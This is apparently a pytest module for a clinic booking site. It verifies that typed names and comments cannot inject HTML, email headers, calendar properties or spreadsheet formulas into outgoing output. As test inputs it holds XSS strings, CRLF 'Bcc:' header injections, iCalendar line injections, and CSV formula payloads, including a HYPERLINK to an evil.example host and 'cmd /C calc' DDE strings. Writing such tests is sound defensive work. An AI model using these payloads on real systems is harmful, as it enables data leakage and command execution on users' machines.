"""Hostile names and comments cannot inject anything into what the site sends out.

Three kinds of output carry text that patients and staff typed:

- every email the site sends, received by a real SMTP server on loopback: no HTML from a
  name in an HTML part, no extra header or recipient, a one-line subject, and the plain part
  keeps the text as typed;
- the calendar files attached to appointment emails: exactly one event per appointment, no
  extra property, and the therapist's name read back exactly;
- every CSV file: no cell a spreadsheet would run as a formula.

The tests discover what to cover (email templates, modules that build mail, admin actions,
CSV writers), so a new email or export fails here until it is covered.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import icalendar
import pytest
import time_machine
from django.contrib import admin
from django.test import RequestFactory
from django.test.signals import template_rendered
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from bookings import services as booking_services
from clinic import csv_safe, two_factor
from clinic.models import User
from exercises.models import Exercise
from notifications import channels
from notifications.dispatch import reminders_dispatch
from notifications.models import ReminderDelivery, ReminderSchedule
from patients.models import Patient
from tests.bookings.factories import AppointmentFactory, RoomFactory, at, follow_up, give_hours
from tests.exercises.factories import published_plan
from tests.notifications.conftest import reschedule
from tests.notifications.integration import smtp  # noqa: F401 (a fixture)
from tests.patients.factories import EpisodeFactory, PatientFactory

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
EVIL = "evil@example.com"

# What attackers type as a patient's name. Each is sent through every email.
HOSTILE_NAMES = {
    "script": "<script>alert(1)</script>",
    "header": f"Bob\r\nBcc: {EVIL}",
    "both": f'<img src=x onerror="alert(1)">\nSubject: pwned\r\nBcc: {EVIL}',
}
# What they type where staff and patients write free text.
HOSTILE_COMMENT = f"<script>alert(2)</script>\r\nBcc: {EVIL}\r\n\r\n<b>Call 0900</b>"
# A therapist's name shows in emails and calendar files.
HOSTILE_THERAPIST = ("Tess\r\nATTENDEE:mailto:" + EVIL, 'Stride, "Dr"; <i>x</i>\nEND:VEVENT')


# --- Emails ---------------------------------------------------------------------------------


@dataclass
class Scene:
    """The people and rows an email is about; every text field of them is hostile."""

    patient: object
    therapist: User
    client: object
    capture: Callable


def _book(scene: Scene, start: dt.datetime):
    return booking_services.appointment_book(
        patient=scene.patient,
        therapist=scene.therapist,
        appointment_type=follow_up(),
        start=start,
        by=scene.therapist,
        notes=HOSTILE_COMMENT,
    )


def send_confirmation(scene: Scene) -> None:
    with scene.capture(execute=True):
        _book(scene, at("2026-06-10", "10:00"))


def send_series_confirmation(scene: Scene) -> None:
    with scene.capture(execute=True):
        booking_services.appointment_series_book(
            patient=scene.patient,
            therapist=scene.therapist,
            appointment_type=follow_up(),
            start=at("2026-06-10", "11:00"),
            weeks=2,
            by=scene.therapist,
            notes=HOSTILE_COMMENT,
        )


def send_change(scene: Scene) -> None:
    appointment = _book(scene, at("2026-06-10", "10:00"))
    with scene.capture(execute=True):
        booking_services.appointment_move(
            appointment=appointment, start=at("2026-06-11", "10:00"), by=scene.therapist
        )


def send_cancellation(scene: Scene) -> None:
    appointment = _book(scene, at("2026-06-10", "10:00"))
    with scene.capture(execute=True):
        booking_services.appointment_cancel(
            appointment=appointment, by=scene.therapist, reason=HOSTILE_COMMENT[:200]
        )


def send_appointment_reminder(scene: Scene) -> None:
    start = at("2026-06-10", "10:00")
    _book(scene, start)  # the booking service schedules the reminder
    due = start - dt.timedelta(hours=24)
    with time_machine.travel(due, tick=False):
        reminders_dispatch(now=due)


def send_exercise_reminder(scene: Scene) -> None:
    noon = dt.datetime(2026, 6, 1, 12, tzinfo=dt.UTC)
    # The library is editable in the admin: an exercise's name is typed text as well.
    Exercise.objects.filter(code="EX-N01").update(name=scene.patient.first_name)
    with time_machine.travel(noon - dt.timedelta(days=3), tick=False):
        plan = published_plan(
            therapist=scene.therapist, episode=EpisodeFactory(patient=scene.patient)
        )
    schedule = ReminderSchedule.objects.get(source="exercise_plan", subject_id=plan.pk)
    schedule.times = ["13:00"]
    schedule.save()
    reschedule(schedule, after=noon - dt.timedelta(minutes=1))
    with time_machine.travel(noon, tick=False):
        reminders_dispatch(now=noon)


def send_urgent_symptom_notice(scene: Scene) -> None:
    """The therapist's notice: the patient's typed name and comment must not reach it."""
    from exercises.selectors import patient_today
    from exercises.services import session_log_save

    plan = published_plan(therapist=scene.therapist, episode=EpisodeFactory(patient=scene.patient))
    session_log_save(
        patient=scene.patient,
        plan=plan,
        date=patient_today(scene.patient),
        done=[],
        pain_during=5,
        pain_after=5,
        difficulty="hard",
        comment=HOSTILE_COMMENT,
        new_symptoms=["hot_calf"],
    )
    now = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=1)
    reminders_dispatch(now=now)


def send_invitation(scene: Scene) -> None:
    scene.client.force_login(scene.therapist)
    with scene.capture(execute=True):
        response = scene.client.post(
            reverse("portal:invite", args=[scene.patient.public_id]),
            {"email": scene.patient.email},
        )
    assert response.status_code == 302
    scene.client.logout()


def send_password_reset(scene: Scene) -> None:
    login = User.objects.create_user(
        email=scene.patient.email,
        password="a-long-enough-password-1",
        role=User.Role.PATIENT,
        first_name=scene.patient.first_name,
        last_name=scene.patient.last_name,
    )
    scene.patient.user = login
    scene.patient.save()
    response = scene.client.post(reverse("password_reset"), {"email": scene.patient.email})
    assert response.status_code == 302


def send_two_factor_change(scene: Scene) -> None:
    # Staff are told when their sign-in changes; the name is the only text they typed.
    staff = User.objects.create_user(
        email="robin@runners.example",
        password=None,
        role=User.Role.THERAPIST,
        first_name=scene.patient.first_name,
        last_name=scene.patient.last_name,
    )
    with scene.capture(execute=True):
        two_factor.recovery_codes_issue(user=staff)


def send_booking_request_decision(scene: Scene) -> None:
    """A new patient's request declined with reception's reason: the name and the reason are
    typed text (the requester's and reception's); the text goes too when they agreed."""
    from bookings.requests.services import booking_request_create, booking_request_decline

    request = booking_request_create(
        first_name=scene.patient.first_name[:100],
        last_name=scene.patient.last_name[:100],
        date_of_birth=dt.date(1990, 1, 1),
        email="robin@runners.example",
        phone="+447700900123",
        sms_consent=True,
        days=[0],
        periods=["morning"],
        reason=HOSTILE_COMMENT[:300],
    )
    with scene.capture(execute=True):
        booking_request_decline(
            booking_request=request, by=scene.therapist, reason=HOSTILE_COMMENT[:500]
        )


# Every way the site sends an email, and the templates it renders. The discovery test below
# fails when an email template or a module that builds mail is not covered here.
EMAILS: dict[str, tuple[Callable[[Scene], None], set[str]]] = {
    "appointment confirmation": (send_confirmation, {"bookings/email/appointment.txt"}),
    "series confirmation": (send_series_confirmation, {"bookings/email/appointment.txt"}),
    "appointment changed": (send_change, {"bookings/email/appointment.txt"}),
    "appointment cancelled": (send_cancellation, {"bookings/email/appointment.txt"}),
    "appointment reminder": (
        send_appointment_reminder,
        {"notifications/email/reminder.txt", "notifications/email/reminder.html"},
    ),
    "exercise reminder": (
        send_exercise_reminder,
        {"notifications/email/reminder.txt", "notifications/email/reminder.html"},
    ),
    "urgent symptom notice": (
        send_urgent_symptom_notice,
        {"notifications/email/staff_alert.txt", "notifications/email/staff_alert.html"},
    ),
    "portal invitation": (send_invitation, {"portal/email/invitation.txt"}),
    "password reset": (
        send_password_reset,
        {"registration/password_reset_email.html", "registration/password_reset_subject.txt"},
    ),
    "two-factor change": (send_two_factor_change, {"registration/two_factor_changed_email.txt"}),
    "booking request decision": (
        send_booking_request_decision,
        {"bookings/requests/email/decision.txt", "bookings/requests/email/decision_sms.txt"},
    ),
}
# Modules whose code builds or sends mail, and the emails above that exercise them. (The
# password reset email is built by django.contrib.auth's form.)
MAIL_MODULES = {
    "bookings/emails.py": {"appointment confirmation", "appointment cancelled"},
    "notifications/channels.py": {
        "appointment reminder",
        "exercise reminder",
        "urgent symptom notice",
    },
    "portal/services.py": {"portal invitation"},
    "clinic/two_factor.py": {"two-factor change"},
    "clinic/forms.py": {"password reset"},  # queued on Celery's default queue (clinic/mail.py)
    "bookings/requests/messages.py": {"booking request decision"},
}
MAIL_BUILDERS = re.compile(
    r"\b(send_mail|send_mass_mail|mail_admins|mail_managers|EmailMessage|EmailMultiAlternatives)\("
)
HEADERS_ALLOWED = {
    "content-type",
    "mime-version",
    "content-transfer-encoding",
    "subject",
    "from",
    "to",
    "date",
    "message-id",
    "list-unsubscribe",
    "list-unsubscribe-post",
    "auto-submitted",
}


@pytest.fixture
def smtp_site(smtp, settings):  # noqa: F811 (the imported fixture)
    """The site sends through a real SMTP server on loopback, as in production."""
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST = "127.0.0.1"
    settings.EMAIL_PORT = smtp.port
    settings.EMAIL_USE_TLS = settings.EMAIL_USE_SSL = False
    settings.SITE_URL = "https://clinic.example"
    yield smtp
    channels.CHANNELS["email"]._drop_session()


@pytest.fixture
def rendered_templates():
    names: list[str] = []

    def note(sender, template, **kwargs):
        names.append(template.name)

    template_rendered.connect(note)
    yield names
    template_rendered.disconnect(note)


def hostile_scene(name: str, client, capture) -> Scene:
    first, last = HOSTILE_THERAPIST
    therapist = User.objects.create_user(
        email="tess@test.example",
        password=None,
        role=User.Role.THERAPIST,
        first_name=first,
        last_name=last,
    )
    give_hours(therapist, start="08:00", end="18:00")
    patient = PatientFactory(
        first_name=name,
        last_name=name[:100],
        email="robin@runners.example",
        email_reminders_consent=True,
    )
    return Scene(patient=patient, therapist=therapist, client=client, capture=capture)


def python_sources() -> list[Path]:
    """The project's own Python code: not tests, tools, migrations or installed packages."""
    skip = {"tests", "bench", "migrations", ".venv", "node_modules", "static", "var"}
    return [path for path in ROOT.rglob("*.py") if not skip & set(path.relative_to(ROOT).parts)]


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)

    def handle_data(self, data):
        self.text.append(data)


def _collapse(text: str) -> str:
    return " ".join(text.split())


def assert_no_injection(
    received, *, name: str, greets: bool, to: str = "robin@runners.example"
) -> None:
    message = received.message
    assert received.rcpt_tos == [to], "an extra recipient was added"
    headers = {key.lower() for key in message}
    assert headers <= HEADERS_ALLOWED, f"unexpected headers {headers - HEADERS_ALLOWED}"
    for key, value in message.items():
        assert EVIL not in str(value), f"{key} carries the attacker's text"
        assert "pwned" not in str(value)
    assert "\r" not in message["Subject"]
    assert "\n" not in message["Subject"]
    assert len(message.get_all("Subject")) == 1

    parts = {part.get_content_type(): part for part in message.walk()}
    plain = parts["text/plain"].get_content()
    # The plain part is text, not HTML: a name reads as typed (line breaks may become
    # spaces), never as &lt;script&gt;.
    assert "&lt;" not in plain
    assert "&amp;" not in plain
    assert "&#" not in plain
    if greets:
        assert _collapse(name) in _collapse(plain), "the plain part keeps the name as typed"
    html_part = parts.get("text/html")
    if html_part is not None:
        html = html_part.get_content()
        assert "<script" not in html.lower()
        elements = _Elements()
        elements.feed(html)
        assert not elements.tags & {"script", "img", "b", "i", "iframe"}
        assert not {attr for attr in elements.attributes if attr.startswith("on")}
        shown = _collapse("".join(elements.text))
        if greets:
            assert _collapse(name) in shown, "the HTML part shows the name as text"


def test_it_covers_every_email_template_and_mail_module():
    """A new email (a template or a module that builds mail) must be added to EMAILS."""
    found = {
        path.relative_to(ROOT / "templates").as_posix()
        for path in (ROOT / "templates").rglob("*")
        if path.is_file()
        and ("email" in path.parts or "email" in path.stem or "subject" in path.stem)
    }
    covered = set().union(*(templates for _, templates in EMAILS.values()))
    assert found == covered, "an email template is not sent by any case in EMAILS"
    modules = {
        path.relative_to(ROOT).as_posix()
        for path in python_sources()
        if MAIL_BUILDERS.search(path.read_text())
    }
    assert modules == set(MAIL_MODULES), "a module builds mail: add its emails to EMAILS"
    assert set().union(*MAIL_MODULES.values()) <= set(EMAILS)


@pytest.fixture(autouse=True)
def _before_the_appointments():
    with time_machine.travel(dt.datetime(2026, 6, 1, 8, tzinfo=dt.UTC), tick=False):
        yield


# Emails that do not address the person by name.
NO_GREETING = {"password reset", "two-factor change", "urgent symptom notice"}
# Emails to the patient's therapist (the scene's), which never name the patient.
TO_THERAPIST = {"urgent symptom notice"}


@pytest.mark.parametrize("name", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES.keys())
@pytest.mark.parametrize("kind", EMAILS)
def test_it_sends_every_email_without_injection(
    kind, name, smtp_site, client, django_capture_on_commit_callbacks, rendered_templates
):
    send, templates = EMAILS[kind]
    send(hostile_scene(name, client, django_capture_on_commit_callbacks))
    assert templates <= set(rendered_templates)
    assert smtp_site.messages, "no email reached the SMTP server"
    for received in smtp_site.messages:
        assert_no_injection(
            received,
            name=name,
            greets=kind not in NO_GREETING,
            to="tess@test.example" if kind in TO_THERAPIST else "robin@runners.example",
        )
        if kind in TO_THERAPIST:
            assert HOSTILE_COMMENT not in received.message.as_string()


# The invitation and reset forms validate the address typed; these read the stored one.
# (The two-factor email goes to a staff login's address, which the user model validates; a
# booking request's decision goes to the address on the request, not a patient's record.)
FROM_STORED_ADDRESS = [
    kind
    for kind in EMAILS
    if kind
    not in {
        "portal invitation",
        "password reset",
        "two-factor change",
        "booking request decision",
        *TO_THERAPIST,
    }
]


@pytest.mark.parametrize("kind", FROM_STORED_ADDRESS)
def test_it_never_sends_to_a_stored_address_with_a_line_break(
    kind, smtp_site, client, django_capture_on_commit_callbacks
):
    """An address that slipped past validation (an import, a raw update) fails that email,
    logged or on the failed list: it never adds a recipient and never crashes the sender."""
    scene = hostile_scene("Robin", client, django_capture_on_commit_callbacks)
    Patient.objects.filter(pk=scene.patient.pk).update(
        email=f"robin@runners.example\r\nBcc: {EVIL}"
    )
    scene.patient.refresh_from_db()
    EMAILS[kind][0](scene)
    assert smtp_site.messages == []
    deliveries = ReminderDelivery.objects.all()
    assert deliveries.exists() == kind.endswith("reminder")
    assert all(delivery.status == ReminderDelivery.Status.FAILED for delivery in deliveries)


# --- Calendar files -------------------------------------------------------------------------

# A therapist's name as typed, and as the calendar file must read it back: line breaks and
# punctuation kept (the file escapes them), control characters dropped.
HOSTILE_CALENDAR_NAMES = [
    ("Tess\r\nATTENDEE:mailto:" + EVIL, "Tess\nATTENDEE:mailto:" + EVIL),
    (
        "Tess\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Free",
        "Tess\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Free",
    ),
    ('Stride, "Dr"; ROLE=CHAIR', 'Stride, "Dr"; ROLE=CHAIR'),
    ("Back\\slash\\n;,:", "Back\\slash\\n;,:"),
    ("Esc\x1b[31m\rBell\x07\x7f\tTab", "Esc[31m\nBell\tTab"),
    ("Uni\u2028ATTENDEE:x\x85ATTENDEE:y\x0bz", "Uni\nATTENDEE:x\nATTENDEE:y\nz"),
]
EVENT_PROPERTIES = {"UID", "SEQUENCE", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION"}
EVENT_PROPERTIES |= {"STATUS"}


def calendars_sent(mailoutbox) -> list[tuple[bytes, icalendar.Calendar]]:
    files = []
    for message in mailoutbox:
        for name, content, mimetype in message.attachments:
            assert name.endswith(".ics")
            assert mimetype.startswith("text/calendar")
            raw = content.encode() if isinstance(content, str) else content
            files.append((raw, icalendar.Calendar.from_ical(raw)))
    return files


@pytest.mark.parametrize(
    ("typed", "shown"), HOSTILE_CALENDAR_NAMES, ids=[f"name{i}" for i in range(6)]
)
@pytest.mark.parametrize(
    "kind",
    [
        "appointment confirmation",
        "series confirmation",
        "appointment changed",
        "appointment cancelled",
    ],
)
def test_it_writes_calendar_files_that_hold_exactly_one_event_per_appointment(
    kind, typed, shown, client, mailoutbox, django_capture_on_commit_callbacks
):
    scene = hostile_scene("Robin\r\nATTENDEE:x", client, django_capture_on_commit_callbacks)
    scene.therapist.first_name, scene.therapist.last_name = typed, ""
    scene.therapist.save()
    EMAILS[kind][0](scene)
    sent = calendars_sent(mailoutbox[-1:])
    assert len(sent) == 1
    raw, calendar = sent[0]
    expected_events = 2 if kind == "series confirmation" else 1
    assert len(calendar.walk("VCALENDAR")) == 1
    assert set(calendar) == {"PRODID", "VERSION", "METHOD"}
    events = calendar.walk("VEVENT")
    assert len(events) == expected_events
    assert [component.name for component in calendar.subcomponents] == ["VEVENT"] * len(events)
    for event in events:
        assert set(event) == EVENT_PROPERTIES
        assert not event.subcomponents
        assert str(event["DESCRIPTION"]) == f"With {shown}."
        assert str(event["SUMMARY"]) == "Apex Clinic appointment"
    # Every line of the file is a property of the calendar or its events, or a folded
    # continuation: nothing typed starts a line of its own.
    lines = raw.decode().split("\r\n")
    assert lines[-1] == ""
    for line in lines[:-1]:
        assert not re.search(r"[\x00-\x08\x0a-\x1f\x7f\x85\u2028\u2029]", line)
        if not line.startswith(" "):
            assert line.split(":", 1)[0].split(";", 1)[0] in (
                EVENT_PROPERTIES | {"PRODID", "VERSION", "METHOD", "BEGIN", "END"}
            )


# --- CSV files ------------------------------------------------------------------------------

FORMULA = re.compile(r"^[=+\-@\t\r\n]")
HOSTILE_CELLS = {
    "patient": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "surname": "+cmd|' /C calc'!A0",
    "therapist": "@SUM(1+1)*cmd|' /C calc'!A0",
    "type": "-2+3+cmd|' /C calc'!A0",
    "room": "\t=1+1",
    "second patient": "\r=1+1",
    "third patient": "\n=1+1",
}


def test_it_writes_every_csv_through_the_formula_safe_writer():
    """A module that imports csv, or sends text/csv, writes through clinic.csv_safe."""
    offenders = []
    for path in python_sources():
        if path.relative_to(ROOT).as_posix() == "clinic/csv_safe.py":
            continue
        source = path.read_text()
        tree = ast.parse(source)
        imports_csv = any(
            (isinstance(node, ast.Import) and any(a.name == "csv" for a in node.names))
            or (isinstance(node, ast.ImportFrom) and node.module == "csv")
            for node in ast.walk(tree)
        )
        uses_safe_writer = "csv_safe" in source
        if imports_csv or ("text/csv" in source and not uses_safe_writer):
            offenders.append(path.relative_to(ROOT).as_posix())
    assert offenders == [], "write CSV with clinic.csv_safe.writer()"


@pytest.fixture
def hostile_rows(therapist):
    therapist.first_name, therapist.last_name = HOSTILE_CELLS["therapist"], ""
    therapist.save()
    kind = follow_up()
    kind.name = HOSTILE_CELLS["type"]
    kind.save()
    room = RoomFactory(name=HOSTILE_CELLS["room"])
    first = PatientFactory(first_name=HOSTILE_CELLS["patient"], last_name=HOSTILE_CELLS["surname"])
    others = [
        PatientFactory(first_name=HOSTILE_CELLS[key], last_name="Ridge")
        for key in ("second patient", "third patient")
    ]
    return [
        AppointmentFactory(patient=patient, therapist=therapist, room=room, start=start)
        for patient, start in zip(
            [first, *others],
            [at("2026-03-24", "10:00"), at("2026-03-24", "11:00"), at("2026-03-24", "12:00")],
            strict=True,
        )
    ]


def test_it_neutralises_formulas_in_every_admin_csv_export(manager_client, manager, hostile_rows):
    """Run every action of every admin page over every row; check each CSV that comes back."""
    exports = neutralised = 0
    for model, model_admin in admin.site._registry.items():
        first = model._default_manager.first()
        if first is None:
            continue
        url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        request = RequestFactory().get(url)
        request.user = manager
        for action in model_admin.get_actions(request):
            if action == "delete_selected":
                continue
            response = manager_client.post(
                url, {"action": action, "select_across": "1", "_selected_action": [first.pk]}
            )
            assert response.status_code < 500
            if not response.get("Content-Type", "").startswith("text/csv"):
                continue
            exports += 1
            rows = list(csv.reader(io.StringIO(response.content.decode())))
            cells = [value for row in rows for value in row]
            assert [value for value in cells if FORMULA.match(value)] == [], action
            neutralised += sum(value[:1] == "'" for value in cells)
    assert exports >= 1  # the appointments export at least
    assert neutralised >= len(HOSTILE_CELLS)  # the hostile rows were in it


@given(st.text())
def test_it_never_starts_a_csv_cell_with_a_formula_and_keeps_its_text(text):
    buffer = io.StringIO()
    csv_safe.writer(buffer).writerow([text, "-", 5, None])
    (row,) = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
    assert not FORMULA.match(row[0])
    assert row[0] in (text, "'" + text)
    assert row[1:] == ["'-", "5", ""]
